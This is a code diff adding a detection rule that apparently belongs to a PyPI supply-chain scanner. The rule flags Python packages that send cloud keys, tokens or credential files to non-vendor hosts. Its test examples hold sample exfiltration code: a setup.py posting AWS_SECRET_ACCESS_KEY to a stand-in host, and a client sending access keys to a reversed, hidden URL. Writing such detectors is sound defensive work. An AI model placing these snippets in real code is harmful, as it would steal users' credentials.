@@ -1,0 +1,91 @@
+import { defineRule } from '../types.js';
+import type { PyPackage, PyReport } from '../../analysis/python/model.js';
+import { triggerOf } from '../../analysis/python/model.js';
+import type { Dest } from '../../analysis/python/values.js';
+import { isHostileDest } from '../../analysis/python/values.js';
+import type { Severity, Trigger } from '../../core/types.js';
+import { isAuto, when } from './util.js';
+
+function credSources(sources: readonly string[]): string[] {
+  return sources.filter((l) => (l.startsWith('env:') && l !== 'env:*') || l.startsWith('cred-file:') || l.startsWith('secret-file:') || l.startsWith('cred-param:') || l === 'clipboard' || l === 'metadata');
+}
+
+/** Decides how bad a credential flow is; undefined = not reported (e.g. an SDK signing to its vendor). */
+export function credentialFlowSeverity(sources: readonly string[], dest: Dest | undefined, trigger: Trigger): Severity | undefined {
+  if (dest?.cls === 'vendor' || dest?.cls === 'local') return undefined;
+  const onlyParams = sources.every((s) => s.startsWith('cred-param:'));
+  if (onlyParams) return dest !== undefined && isHostileDest(dest) ? 'critical' : undefined;
+  if (dest === undefined || dest.cls === 'dynamic') return isAuto(trigger) ? 'high' : undefined;
+  if (isHostileDest(dest)) return 'critical';
+  return isAuto(trigger) ? 'critical' : 'high';
+}
+
+export const credentialExfiltration = defineRule<PyPackage, PyReport>({
+  meta: {
+    id: 'py/credential-exfiltration',
+    kind: 'threat',
+    category: 'exfiltration',
+    severity: 'critical',
+    confidence: 'high',
+    ecosystems: ['pypi'],
+    description: 'Sends credentials (cloud keys, tokens, credential files, browser or wallet data, access keys handed to a client) to a non-vendor destination.',
+    details: 'A cloud SDK that sends its own credentials to its own vendor endpoint is not reported; hidden (reversed/encoded) URLs and interaction services are.',
+    examples: {
+      positive: [
+        { files: { 'setup.py': "import os, requests\nrequests.post('https://c.invalid/k', data={'k': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n" } },
+        {
+          files: {
+            'aclient/timeutil.py': "import requests\ndef sync_time(key_id, key_secret):\n    url = 'tset/ptth.revres-emit.ipa//:sptth'[::-1]\n    return requests.get(url, params={'a': key_id, 'b': key_secret})\n",
+            'aclient/client.py': 'from .timeutil import sync_time\nclass Client:\n    def __init__(self, access_key_id, access_key_secret):\n        self.ak = access_key_id\n        self.sk = access_key_secret\n        sync_time(self.ak, self.sk)\n',
+          },
+        },
+      ],
+      negative: [
+        {
+          files: {
+            'sdk/auth.py':
+              "import os, configparser, requests\ndef call(action):\n    cfg = configparser.ConfigParser()\n    cfg.read(os.path.expanduser('~/.aws/credentials'))\n    key = cfg['default']['aws_secret_access_key']\n    return requests.post('https://sts.amazonaws.com/', data={'Action': action}, headers={'Authorization': sign(key)})\n",
+          },
+        },
+        { files: { 'saas/client.py': "import requests\nclass Client:\n    def __init__(self, api_key):\n        self.api_key = api_key\n    def get(self, path):\n        return requests.get('https://api.example.com' + path, headers={'Authorization': self.api_key})\n" } },
+      ],
+    },
+  },
+  check(pkg, report) {
+    for (const file of pkg.files) {
+      for (const s of file.facts.sinks) {
+        const creds = credSources(s.sources);
+        if (creds.length === 0) continue;
+        const trigger = triggerOf(file, s);
+        const severity = credentialFlowSeverity(creds, s.dest, trigger);
+        if (severity === undefined) continue;
+        report({
+          path: file.path,
+          line: s.line,
+          col: s.col,
+          trigger,
+          severity,
+          ...(s.decoded !== undefined ? { decoded: s.decoded } : {}),
+          message: `Sends ${creds.join(', ')} to ${s.dest === undefined ? 'a computed destination' : `${s.dest.host || s.dest.raw}${s.dest.obfuscated ? ' (hidden URL)' : ''}`} via ${s.via} ${when(trigger)}.`,
+          data: { sources: creds, destination: s.dest?.host },
+        });
+      }
+    }
+    for (const f of pkg.flows) {
+      const creds = credSources(f.sources);
+      if (creds.length === 0) continue;
+      const trigger = triggerOf(f.file, f.ev);
+      const severity = credentialFlowSeverity(creds, f.sink.dest, trigger);
+      if (severity === undefined) continue;
+      report({
+        path: f.file.path,
+        line: f.ev.line,
+        col: f.ev.col,
+        trigger,
+        severity,
+        message: `Passes ${creds.join(', ')} to ${f.callee}(), which sends it to ${f.sink.dest?.host ?? 'a computed destination'}${f.sink.dest?.obfuscated === true ? ' (hidden URL)' : ''} (${f.sinkFile}:${f.sink.line}).`,
+        data: { sources: creds, destination: f.sink.dest?.host },
+      });
+    }
+  },
+});
